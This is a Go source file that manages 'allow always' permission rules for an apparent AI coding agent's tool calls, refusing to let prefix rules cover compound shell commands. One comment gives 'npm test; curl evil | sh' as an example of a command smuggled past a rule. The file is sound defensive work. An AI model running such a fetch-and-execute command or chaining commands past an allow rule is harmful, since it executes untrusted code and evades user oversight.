// "Allow always for this loop" rules: kept in the loop's meta.json, applied by loopat
// before a permission request reaches the user. Syntax as Claude Code's settings:
// "Tool" allows every use of Tool; "Bash(npm test:*)" allows a Bash command that is
// "npm test" or starts with "npm test "; "Bash(make lint)" allows that exact command.

package loops

import (
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"strings"

	"github.com/loopat/desktop/backend/events"
)

// MaxPermissionRules bounds a loop's rule list.
const MaxPermissionRules = 200

var (
	ruleRe     = regexp.MustCompile(`^([A-Za-z][A-Za-z0-9_-]{0,127})(?:\((.{1,1000})\))?$`)
	shellMagic = ";&|<>`$(){}\n\r\\*?[]!#~'\""
)

// noRuleTools ask the user a question rather than for a permission: never auto-allowed.
var noRuleTools = map[string]bool{"AskUserQuestion": true, "ExitPlanMode": true}

// ParsePermissionRule checks a rule and splits it into tool and pattern.
func ParsePermissionRule(rule string) (tool, pattern string, err error) {
	m := ruleRe.FindStringSubmatch(strings.TrimSpace(rule))
	if m == nil {
		return "", "", fmt.Errorf("%w: rule %q is not Tool or Tool(pattern)", ErrBadInput, rule)
	}
	tool, pattern = m[1], m[2]
	if noRuleTools[tool] {
		return "", "", fmt.Errorf("%w: %s always asks the user; it takes no rule", ErrBadInput, tool)
	}
	if pattern != "" && tool != "Bash" {
		return "", "", fmt.Errorf("%w: only Bash rules take a pattern (use %q for every %s call)", ErrBadInput, tool, tool)
	}
	if strings.TrimSpace(strings.TrimSuffix(pattern, ":*")) == "" && pattern != "" {
		return "", "", fmt.Errorf("%w: rule %q has an empty command", ErrBadInput, rule)
	}
	return tool, pattern, nil
}

// ruleMatches reports whether rule allows tool with input (the CLI's JSON).
func ruleMatches(rule, tool string, input json.RawMessage) bool {
	rt, pattern, err := ParsePermissionRule(rule)
	if err != nil || rt != tool {
		return false
	}
	if pattern == "" {
		return true
	}
	var in struct {
		Command string `json:"command"`
	}
	if json.Unmarshal(input, &in) != nil || in.Command == "" {
		return false
	}
	if prefix, ok := strings.CutSuffix(pattern, ":*"); ok {
		// A prefix never covers a compound command: "npm test; curl evil | sh" starts
		// with "npm test" but is not it.
		if strings.ContainsAny(in.Command, shellMagic) {
			return false
		}
		return in.Command == prefix || strings.HasPrefix(in.Command, prefix+" ")
	}
	return in.Command == pattern
}

// suggestRule is the rule "Allow always" stores for a request: the tool for most
// tools; for Bash the command's first word (and subcommand), or the exact command
// when it is compound.
func suggestRule(tool string, input json.RawMessage) string {
	if noRuleTools[tool] {
		return ""
	}
	if tool != "Bash" {
		if _, _, err := ParsePermissionRule(tool); err != nil {
			return ""
		}
		return tool
	}
	var in struct {
		Command string `json:"command"`
	}
	if json.Unmarshal(input, &in) != nil || strings.TrimSpace(in.Command) == "" {
		return ""
	}
	cmd := strings.TrimSpace(in.Command)
	if strings.ContainsAny(cmd, shellMagic) {
		if len(cmd) > 1000 || strings.ContainsAny(cmd, "\n\r") {
			return ""
		}
		return "Bash(" + cmd + ")"
	}
	// "npm test ..." -> "npm test:*"; a command whose second word is a flag ("rm -rf
	// build") is allowed exactly, never as a whole family ("rm:*").
	words := strings.Fields(cmd)
	switch {
	case len(words) == 1:
		return "Bash(" + words[0] + ":*)"
	case strings.HasPrefix(words[1], "-"):
		return "Bash(" + strings.Join(words, " ") + ")"
	}
	return "Bash(" + words[0] + " " + words[1] + ":*)"
}

// PermissionRules lists the loop's "allow always" rules.
func (m *Manager) PermissionRules(id string) ([]string, error) {
	meta, err := m.store.Get(id)
	if err != nil {
		return nil, err
	}
	return append([]string{}, meta.PermissionRules...), nil
}

// AddPermissionRule stores a rule (once).
func (m *Manager) AddPermissionRule(id, rule string) error {
	rule = strings.TrimSpace(rule)
	if _, _, err := ParsePermissionRule(rule); err != nil {
		return err
	}
	var full bool
	if _, err := m.store.Update(id, func(x *Meta) {
		if slices.Contains(x.PermissionRules, rule) {
			return
		}
		if len(x.PermissionRules) >= MaxPermissionRules {
			full = true
			return
		}
		x.PermissionRules = append(x.PermissionRules, rule)
	}); err != nil {
		return err
	}
	if full {
		return fmt.Errorf("%w: this loop already has %d rules; remove some first", ErrBadInput, MaxPermissionRules)
	}
	m.publish(events.TopicLoopsChanged, map[string]string{"id": id})
	return nil
}

// RemovePermissionRule drops a rule; later requests it covered ask again.
func (m *Manager) RemovePermissionRule(id, rule string) error {
	found := false
	if _, err := m.store.Update(id, func(x *Meta) {
		x.PermissionRules = slices.DeleteFunc(x.PermissionRules, func(r string) bool {
			if r == rule {
				found = true
			}
			return r == rule
		})
	}); err != nil {
		return err
	}
	if !found {
		return fmt.Errorf("%w: the loop has no rule %q", ErrBadInput, rule)
	}
	m.publish(events.TopicLoopsChanged, map[string]string{"id": id})
	return nil
}
